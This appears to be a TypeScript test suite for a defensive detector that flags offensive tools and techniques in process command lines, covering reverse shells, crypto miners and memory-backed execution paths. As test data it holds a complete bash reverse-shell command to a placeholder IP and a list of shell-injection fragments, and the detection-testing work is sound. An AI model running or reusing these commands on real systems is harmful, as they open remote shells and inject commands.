t.test('a policy can take tells out, with the tool or the technique that they speak of', async t => {
  const args = '-c "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"'
  t.equal(summary(inspectExec(compiled('default', ['reverse-shell']), factsOf('/bin/bash', args))), '')
  t.equal(summary(inspectExec(compiled('default', ['xmrig']), factsOf('/x/y', '--donate-level=1'))), '')
  t.throws(() => compiled('default', ['reverse-shel']), { code: 'POLICY_INVALID' })
})

t.test('where a program comes from', async t => {
  const rows: readonly (readonly [string, string | undefined])[] = [
    ['/proc/self/fd/3', 'proc-fd'],
    ['/proc/4711/task/4712/fd/3', 'proc-fd'],
    ['/proc/self/../thread-self/fd/3', 'proc-fd'],
    ['/proc/self/map_files/400000-401000', 'proc-fd'],
    ['/dev/fd/3', 'dev-fd'],
    ['memfd:x', 'memfd'],
    ['/memfd: (deleted)', 'memfd'],
    ['/run/shm/x', 'shared-memory'],
    ['/dev/shm/a/b', 'shared-memory'],
    ['/opt/x (deleted)', 'deleted'],
    ['/opt/dev/shm/x', undefined],
    ['/proc/self/exe', undefined],
    ['/usr/bin/fdisk', undefined],
    ['', undefined],
  ]
  for (const [path, origin] of rows) t.equal(originOf(path), origin, path)
})

/** Texts that make a careless reader go back again and again. */
const HOSTILE: readonly string[] = [
  'socat ',
  'curl ',
  '"',
  '" ',
  'a" ',
  "'",
  '$(',
  '`',
  '(',
  '\\',
  'sh -c "',
  '-c "sh ',
  'echo x|sh;',
  '$(echo ',
  '$(echo x)',
  'a=$a$a;',
  "run('','",
  'run("',
  'qx(',
  'core.pager=x ',
  'QUJD',
  'env ',
  ';',
  'x;',
  '--rate=1 ',
  '1.1.1.1:',
  '-s ',
  '/dev/tcp/a/1 ',
  'python -c socket ',
  '-W 0a0a0a ',
  'a.oast.',
  '@',
  '=',
  ' ',
  'x',
  '> ',
  '<(',
]

t.test('the work is bounded, whatever the arguments hold', async t => {
  for (const piece of HOSTILE) {
    const text = piece.repeat(300_000 / piece.length)
    for (const [binary, args] of [
      ['/bin/sh', text],
      ['/bin/sh', `-c "${text}"`],
      ['/usr/bin/env', text],
      ['/usr/bin/curl', text],
      ['/usr/bin/perl', `-e "${text}"`],
      ['/usr/bin/git', text],
    ] as const) {
      const line = readCommandLine(rules.wrappers, binary, args)
      t.ok(line.work <= MAX_WORK + MAX_WORDS && line.commands.length <= 128, `${binary} ${piece}`)
      t.equal(line.isComplete, false)
      t.doesNotThrow(() => inspect(binary, args, strict))
    }
  }
})

t.test('each tell takes time in proportion to the text', async t => {
  for (const tell of rules.tells) {
    for (const expression of [...tell.all, ...tell.not]) {
      t.equal(problemOfExpression(expression.source), undefined, `${tell.id} ${expression.source}`)
    }
    const started = process.cpuUsage()
    const pieces = [...HOSTILE, ...tell.literals, ...tell.literals.map(literal => `${literal} `)]
    for (const piece of pieces) isTold(tell, `${piece.repeat(65_536 / piece.length)}${tell.literals[0]}`)
    const { user, system } = process.cpuUsage(started)
    // 0.1 to 10 ms a text; one that is quadratic takes seconds.
    t.ok((user + system) / 1_000 / pieces.length < 100, tell.id)
  }
})

t.test('rules that could be slow, or that are misspelt, are refused', async t => {
  for (const expression of ['a*', 'a+b', 'a{2,}', '(?=a)', '(?<n>a)', '(a)\\1', 'a{1,999}', '(', 'x'.repeat(501)]) {
    t.ok(problemOfExpression(expression), expression)
  }
  for (const expression of ['a{0,9}', '[*+]', '\\+', '(?:a|b)$', 'a?']) {
    t.equal(problemOfExpression(expression), undefined, expression)
  }
  const source = (data: unknown) => ({ data, file: 'x.json' })
  const good = {
    wrappers: source(readShipped(FILES.wrappers)),
    tells: source(readShipped(FILES.tells)),
    collisions: source(readShipped(FILES.collisions)),
  }
  for (const part of ['wrappers', 'tells', 'collisions'] as const) {
    try {
      compileToolRules({ ...good, [part]: source({ version: 1, description: '', extra: 1 }) })
      t.fail(part)
    } catch (error) {
      t.ok(error instanceof KnownError && error.code === 'POLICY_INVALID' && error.message.startsWith('x.json'), part)
    }
  }
})

t.test('every collision and every tell speaks of something that is known', async t => {
  const names = new Set(tools.tools.map(({ name }) => name))
  for (const { tool } of rules.collisions.values()) t.ok(names.has(tool), tool)
  const techniques = new Set(rules.tells.filter(({ tool }) => !names.has(tool)).map(({ tool }) => tool))
  const page = readFileSync(new URL('../../docs/detection.md', import.meta.url), 'utf8')
  for (const technique of techniques) t.ok(page.includes(`\`${technique}\``), `docs/detection.md names ${technique}`)
})

t.test('nothing makes the inspection throw', async t => {
  const piece = fc.constantFrom(
    ...['sh', '-c', '"', ' ', "'", '`', '$(', ')', '\\', ';', '|', '&&', '>', '<', '\n', '#', '{', '}', '='],
    ...['env', 'timeout', '5', 'python3', '-m', 'nmap', 'nc', '-e', '/', 'npx', 'busybox', 'find', '-exec', '\u{202e}'],
  )
  const text = fc.oneof(
    fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join('')),
    fc.array(piece, { maxLength: 40 }).map(pieces => pieces.join(' ')),
    fc.string({ unit: 'binary', maxLength: 100 }),
  )
  const binary = fc.oneof(fc.constantFrom('/bin/sh', '/usr/bin/env', '/bin/busybox', '/usr/bin/find', ''), text)
  const property = fc.property(binary, text, (path, args) => {
    const first = inspect(path, args, strict)
    // The memory changes nothing.
    return JSON.stringify(inspect(path, args, strict)) === JSON.stringify(first)
  })
  t.doesNotThrow(() => assertProperty(property))
})

t.test('rules that were checked before are read as the same', async t => {
  const checked = (name: string) => ({ data: readShipped(name), file: name, isChecked: true })
  const { wrappers, tells, collisions } = FILES
  const again = { wrappers: checked(wrappers), tells: checked(tells), collisions: checked(collisions) }
  t.strictSame(compileToolRules(again), rules)
  t.strictSame(parseToolCatalogue(checked('offensive-tools.json')), { ...tools, file: 'offensive-tools.json' })
})
